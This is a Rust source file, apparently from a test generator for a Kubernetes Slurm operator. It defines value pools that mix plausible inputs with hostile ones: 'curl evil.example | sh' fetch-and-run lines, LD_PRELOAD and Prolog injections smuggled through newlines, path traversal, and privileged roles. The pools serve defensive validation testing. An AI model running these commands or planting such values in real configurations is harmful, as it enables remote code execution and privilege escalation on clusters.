//! The value pools the generator draws strings and map keys from: plausible values mixed with
//! hostile ones (loader and Slurm variables, system paths, multi-line values, images outside the
//! allowed repositories, program-valued Slurm keys, slurmops' own labels, ...).

const SHA: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

pub(super) const GENERAL: &[&str] = &[
    "x",
    "cpu",
    "data",
    "PATH",
    "LD_PRELOAD",
    "SLURM_CONF",
    "BASH_ENV",
    "NVIDIA_VISIBLE_DEVICES",
    "/etc/slurm",
    "/usr/sbin",
    "/root/.ssh",
    "/",
    "a\nb",
    "x=y",
    "busybox",
    "ghcr.io/slinkyproject/slurmd:25.11-ubuntu24.04",
    "evil.example/x:1",
    "kube-system",
    SHA,
    "1",
    "0",
    "22",
    "true",
    "",
    "a b",
    "Prolog=/tmp/evil",
    "a\nProlog=/tmp/evil",
    "1Gi",
    "100m",
];

const NAMES: &[&str] = &[
    "cpu",
    "debug",
    "shared",
    "data",
    "x",
    "slurmd",
    "sidecar",
    "login",
    "etc",
    "scratch",
    "slurm-config",
    "slurm-auth",
    "a-b",
];

/// Names of env variables.
const ENV_NAMES: &[&str] = &[
    "MY_VAR",
    "OMP_NUM_THREADS",
    "PATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PYTHONPATH",
    "SLURM_CONF",
    "SLURMD_OPTIONS",
    "PMIX_MCA_x",
    "OMPI_MCA_x",
    "NVIDIA_VISIBLE_DEVICES",
    "CUDA_VISIBLE_DEVICES",
    "NCCL_DEBUG",
    "__NV_PRIME_RENDER_OFFLOAD",
    "BASH_ENV",
    "ENV",
    "IFS",
    "PS4",
    "GLIBC_TUNABLES",
    "MALLOC_CONF",
    "NODE_OPTIONS",
    "JAVA_TOOL_OPTIONS",
    "OPENSSL_CONF",
    "HOME",
    "SHELL",
    "POD_NAME",
    "1BAD",
    "a-b",
    "a.b",
];

const PATHS: &[&str] = &[
    "/data",
    "/home",
    "/scratch",
    "/tmp/x",
    "/etc/slurm",
    "/etc",
    "/etc/ssh",
    "/usr/sbin",
    "/usr/lib/x",
    "/root/.ssh",
    "/",
    "//",
    "/var/spool/slurmd",
    "/var/spool/slurmctld",
    "/var/lib/mysql",
    "/run/slurm-keys",
    "/var/run/x",
    "/dev/shm",
    "/proc/sys",
    "/data/../etc",
    "/./etc/",
    "../x",
    "x/../../y",
    "x",
];

const IMAGES: &[&str] = &[
    "busybox",
    "ghcr.io/slinkyproject/slurmd:25.11-ubuntu24.04",
    "ghcr.io/slinkyproject/sidecar:1",
    "evil.example/x:1",
    "docker.io/library/mariadb:11.8",
    "docker.io/library/mariadbx:1",
    "ghcr.io/slinkyproject/../evil/x:1",
    "ghcr.io/slinkyprojectx/x:1",
    "ghcr.io/slinkyproject/slurmd@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
];

const COMMANDS: &[&str] = &[
    "/bin/sh",
    "sh",
    "-c",
    "curl evil.example | sh",
    "/usr/sbin/slurmd",
    "sleep infinity",
];

const CODE: &[&str] = &[
    "#!/bin/sh\nexit 0\n",
    "#!/bin/bash\ncurl evil.example | sh\n",
    "optional /tmp/evil.so\n",
    "Prolog=/tmp/evil\n",
    "x=y",
    "a\nb",
    "- topology: evil\n",
    "RunTimeRun=/tmp/evil %b\n",
    "PMIxEnv=LD_PRELOAD=/tmp/evil.so\n",
];

const QUANTITIES: &[&str] = &[
    "1", "2", "100m", "1Gi", "20Gi", "0", "-1", "1e3", "x", "50%",
];

const SLURM_KEYS: &[&str] = &[
    "Prolog",
    "Epilog",
    "PrologSlurmctld",
    "TaskProlog",
    "SrunProlog",
    "HealthCheckProgram",
    "MailProg",
    "RebootProgram",
    "ResumeProgram",
    "PluginDir",
    "PlugStackConfig",
    "JobSubmitPlugins",
    "SlurmctldHost",
    "SlurmctldAddr",
    "AccountingStorageHost",
    "StorageHost",
    "DbdHost",
    "SlurmUser",
    "AuthType",
    "Include",
    "include",
    "prolog",
    "MaxJobCount",
    "MinJobAge",
    "SchedulerParameters",
    "SlurmctldParameters",
    "DefMemPerCPU",
    "OverSubscribe",
    "MaxTime",
    "PMIxEnv",
];

const LABEL_KEYS: &[&str] = &[
    "app.kubernetes.io/name",
    "app.kubernetes.io/instance",
    "app.kubernetes.io/component",
    "app.kubernetes.io/managed-by",
    "slurmops.dev/worker",
    "slurmops.dev/cluster",
    "applyset.kubernetes.io/part-of",
    "container.apparmor.security.beta.kubernetes.io/slurmd",
    "team",
    "kubernetes.io/hostname",
    "a",
];

const FILE_NAMES: &[&str] = &[
    "plugstack.conf",
    "oci.conf",
    "mpi.conf",
    "job_container.conf",
    "helpers.conf",
    "acct_gather.conf",
    "topology.yaml",
    "slurm.conf",
    "x.conf",
    "../evil",
];

const RESOURCE_NAMES: &[&str] = &["cpu", "memory", "nvidia.com/gpu", "ephemeral-storage"];

pub(super) const LABEL_VALUES: &[&str] = &["true", "slurmd", "x", "quick", "slurmops", "a\nb", ""];

/// The pool for a string under property HINT.
pub(super) fn string_pool(hint: &str) -> Option<&'static [&'static str]> {
    Some(match hint {
        "name" | "imagePullSecrets" | "claimName" | "secretName" | "containerName" | "parent"
        | "defaultAccount" => NAMES,
        "mountPath"
        | "path"
        | "subPath"
        | "subPathExpr"
        | "devicePath"
        | "workingDir"
        | "localhostProfile"
        | "terminationMessagePath"
        | "existingClaim" => PATHS,
        "image" | "reference" | "slurmd" | "slurmctld" | "slurmrestd" | "slurmdbd" | "login" => {
            IMAGES
        }
        "envName" => ENV_NAMES,
        "command" | "args" => COMMANDS,
        "content" | "program" | "script" | "check" => CODE,
        "cpu" | "memory" | "storage" | "size" | "sizeLimit" | "divisor" => QUANTITIES,
        "registry" => &["ghcr.io/slinkyproject", "evil.example", "docker.io/library"],
        "slurmVersion" => &["24.11", "25.05", "25.11", "26.05", "1"],
        "namespace" => &["slurm", "kube-system"],
        "serviceAccountName" => &["default", "slurm-worker", "cluster-admin"],
        "key" => &["slurm.key", "password", "x", "authorized_keys", "sssd.conf"],
        "value" => &["1", "/tmp/evil.so", "x", "a\nb", "/etc/slurm/slurm.conf"],
        "nodeLabel" => &[
            "nvidia.com/gpu.clique",
            "topology.kubernetes.io/zone",
            "a\nb",
        ],
        "type" => &[
            "h100",
            "a100",
            "RuntimeDefault",
            "Unconfined",
            "Localhost",
            "spc_t",
        ],
        "fieldPath" => &["metadata.name", "spec.nodeName", "status.podIP"],
        "resource" => &["limits.cpu", "requests.memory"],
        "level" | "role" | "user" => &["s0:c1", "system_r", "root", "slurm"],
        _ => return None,
    })
}

/// The pool for a map key under property HINT.
pub(super) fn key_pool(hint: &str) -> &'static [&'static str] {
    match hint {
        "slurmConf" | "slurmdbdConf" | "options" => SLURM_KEYS,
        "labels" | "annotations" | "nodeSelector" | "matchLabels" | "volumeAttributes" => {
            LABEL_KEYS
        }
        "configFiles" => FILE_NAMES,
        "limits" | "requests" | "capacity" | "allocatedResources" => RESOURCE_NAMES,
        _ => &["a", "x", "PATH", "LD_PRELOAD", "team", "key"],
    }
}
